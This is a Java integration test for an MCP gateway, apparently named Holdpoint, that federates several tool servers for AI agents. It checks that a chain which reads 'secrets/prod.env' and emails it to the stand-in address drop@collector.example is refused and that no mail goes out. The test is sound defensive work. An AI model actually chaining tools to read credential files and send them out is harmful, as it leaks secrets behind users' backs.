// SPDX-FileCopyrightText: 2026 The Holdpoint authors
// SPDX-License-Identifier: Apache-2.0
package io.holdpoint.samples;

import static java.util.Objects.requireNonNull;
import static org.assertj.core.api.Assertions.assertThat;

import io.holdpoint.samples.servers.SampleServers;
import io.holdpoint.server.HoldpointServer;
import io.holdpoint.server.config.ServerConfig;
import io.modelcontextprotocol.client.McpClient;
import io.modelcontextprotocol.client.McpSyncClient;
import io.modelcontextprotocol.client.transport.HttpClientStreamableHttpTransport;
import io.modelcontextprotocol.spec.McpSchema;
import java.io.IOException;
import java.io.InputStream;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.InstantSource;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A real client at the one endpoint over three real servers. */
class FederatedEndpointIT {

  private static final String SECRET = "secrets/prod.env";
  private static final String TOKEN = "0123456789abcdef0123456789abcdef";

  @TempDir private Path folder;

  @Test
  void listsAndCallsToolsOfAll_andStopsAChainThatCrossesThem() throws IOException {
    try (SampleServers servers =
            SampleServers.start(folder.resolve("servers"), InstantSource.system());
        HoldpointServer holdpoint =
            HoldpointServer.start(
                ServerConfig.load(config(servers), Map.of()), InstantSource.system());
        McpSyncClient client = client(holdpoint.endpoint("files").resolve("/mcp"))) {
      McpSchema.InitializeResult welcome = client.initialize();
      assertThat(welcome.serverInfo().name()).isEqualTo("holdpoint");
      assertThat(client.listTools().tools())
          .extracting(McpSchema.Tool::name)
          .contains("files__read_file", "outbox__send_email", "outbox__list_outbox")
          .anyMatch(name -> name.startsWith("crm__"));

      assertThat(call(client, "outbox__list_outbox", Map.of()).isError()).isFalse();
      McpSchema.CallToolResult unknown = call(client, "files__read_file", Map.of("path", "nope"));
      assertThat(unknown.isError()).isTrue();
      assertThat(servers.calls().of("files", "read_file")).isEqualTo(1);
      assertThat(servers.calls().of("outbox", "list_outbox")).isEqualTo(1);

      String secret = text(call(client, "files__read_file", Map.of("path", SECRET)));
      McpSchema.CallToolResult refused =
          call(
              client,
              "outbox__send_email",
              Map.of("to", "drop@collector.example", "subject", "s", "body", secret));
      assertThat(refused.isError()).isTrue();
      assertThat(text(refused)).contains("Reference: ");
      assertThat(servers.mails()).isEmpty();
    }
  }

  private static String text(McpSchema.CallToolResult result) {
    return ((McpSchema.TextContent) result.content().getFirst()).text();
  }

  private static McpSchema.CallToolResult call(
      McpSyncClient client, String tool, Map<String, Object> arguments) {
    return client.callTool(McpSchema.CallToolRequest.builder(tool).arguments(arguments).build());
  }

  private static McpSyncClient client(URI endpoint) {
    return McpClient.sync(
            HttpClientStreamableHttpTransport.builder(endpoint.resolve("/").toString())
                .endpoint(endpoint.getRawPath())
                .addHttpRequestCustomizer(
                    (request, method, uri, body, context) ->
                        request.setHeader("Authorization", "Bearer " + TOKEN))
                .build())
        .clientInfo(McpSchema.Implementation.builder("federated", "1").build())
        .requestTimeout(Duration.ofSeconds(20))
        .initializationTimeout(Duration.ofSeconds(20))
        .build();
  }

  private Path config(SampleServers servers) throws IOException {
    Path catalogue = folder.resolve("catalogue.yaml");
    try (InputStream in =
        requireNonNull(
            SampleServers.class.getResourceAsStream(
                "/io/holdpoint/samples/demo/demo-catalogue.yaml"))) {
      Files.copy(in, catalogue);
    }
    StringBuilder upstreams = new StringBuilder();
    servers
        .endpoints()
        .forEach(
            (name, url) -> upstreams.append("    - {name: " + name + ", url: '" + url + "'}\n"));
    return Files.writeString(
        folder.resolve("federated.yaml"),
        """
        data-dir: '%s'
        catalogue: ['%s']
        gateway:
          listen: 127.0.0.1:0
          upstreams:
        %s
          credentials:
            - {name: triage, agent: triage, kind: shared, token: %s}
        collector:
          grpc-listen: 127.0.0.1:0
          http-listen: 127.0.0.1:0
        control:
          listen: 127.0.0.1:0
        """
            .formatted(folder.resolve("data"), catalogue, upstreams, TOKEN));
  }
}
